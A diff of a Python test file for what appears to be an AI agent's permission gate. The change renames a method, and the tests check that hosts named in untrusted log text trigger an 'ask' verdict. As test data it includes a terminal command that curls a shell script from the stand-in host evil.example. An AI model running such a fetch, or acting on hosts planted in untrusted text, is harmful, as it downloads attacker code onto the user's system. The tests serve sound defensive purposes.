@@ -41,7 +41,7 @@ def test_a_tool_of_which_only_the_risk_is_known_is_not_isolated() -> None:
 def test_a_foreign_read_is_judged_like_curl() -> None:
     policy = gate()
     assert policy.decide(remote(Risk.READ, url="http://fine.example/")).effects == ("network-read",)
-    policy.heard("run-1", LOG, trusted=False)
+    policy.record_text("run-1", LOG, trusted=False)
     by_curl = policy.decide(call("terminal", command="curl http://evil.example/x.sh"))
     by_tool = policy.decide(remote(Risk.READ, url="http://evil.example/x.sh"))
     assert (by_curl.verdict, by_tool.verdict) == ("ask", "ask")
@@ -51,13 +51,13 @@ def test_a_foreign_read_is_judged_like_curl() -> None:
 
 def test_a_host_from_untrusted_text_asks_also_without_a_scheme() -> None:
     policy = gate()
-    policy.heard("run-1", LOG, trusted=False)
+    policy.record_text("run-1", LOG, trusted=False)
     assert policy.decide(remote(Risk.READ, host="evil.example")).verdict == "ask"
 
 
 def test_a_query_of_a_configured_host_may_repeat_words_of_a_log() -> None:
     policy = gate()
-    policy.heard("run-1", "please run the backup script on db-7.example now", trusted=False)
+    policy.record_text("run-1", "please run the backup script on db-7.example now", trusted=False)
     query = {"query": '{host="db-7.example"} |= "run the backup script"'}
     action = replace(sent("GET", configured=True), call=remote(**query).call)
     assert policy.decide(action).verdict == "allow"
